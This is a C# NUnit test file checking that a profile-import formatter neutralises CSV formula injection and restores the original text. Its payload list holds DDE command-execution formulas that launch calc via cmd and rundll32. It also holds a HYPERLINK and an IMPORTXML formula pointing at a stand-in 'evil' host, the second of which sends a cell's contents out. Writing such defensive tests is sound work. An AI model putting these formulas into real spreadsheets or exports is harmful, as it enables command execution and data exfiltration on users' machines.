using NUnit.Framework;
using Patron.Profile;

namespace Patron.Services.Tests.Profile.Import;

[TestFixture]
internal sealed class FormulaTests
{
    /// <summary>OWASP's CSV injection page, PayloadsAllTheThings, and what full-width keyboards and invisible letters add.</summary>
    private static readonly string[] Payloads =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil\",\"click\")", "=IMPORTXML(CONCAT(\"http://evil\",A1),\"//a\")",
        "@SUM(1+9)*cmd|' /C calc'!A0", "=10+20+cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "-2+3+cmd|' /C calc'!A0", "+85291234567", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1",
        "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u3000＝1+1", "\0=1+1", "\tplain",
    ];

    private static readonly string[] Harmless = ["", "Anna", "O'Brien", "'quoted'", "a=b", "1-2", "someone@example.com", "陳大文", "'", "''"];

    [TestCaseSource(nameof(Payloads))]
    public void A_cell_never_begins_with_what_a_spreadsheet_would_run(string payload)
    {
        var cell = Formula.Neutralised(payload);
        Assert.That(cell, Does.StartWith("'"));
        Assert.That(Formula.Restored(cell), Is.EqualTo(payload));
    }

    [TestCaseSource(nameof(Harmless))]
    public void Other_text_stays_as_it_is(string text)
    {
        Assert.That(Formula.Neutralised(text), Is.EqualTo(text));
        Assert.That(Formula.Restored(text), Is.EqualTo(text));
    }

    [Test]
    public void Every_text_comes_back_however_often_it_went_out()
    {
        foreach (var text in Payloads.Concat(Harmless))
        {
            var cell = Enumerable.Range(0, 3).Aggregate(text, (t, _) => Formula.Neutralised(t));
            Assert.That(Enumerable.Range(0, 3).Aggregate(cell, (t, _) => Formula.Restored(t)), Is.EqualTo(text));
        }
    }
}
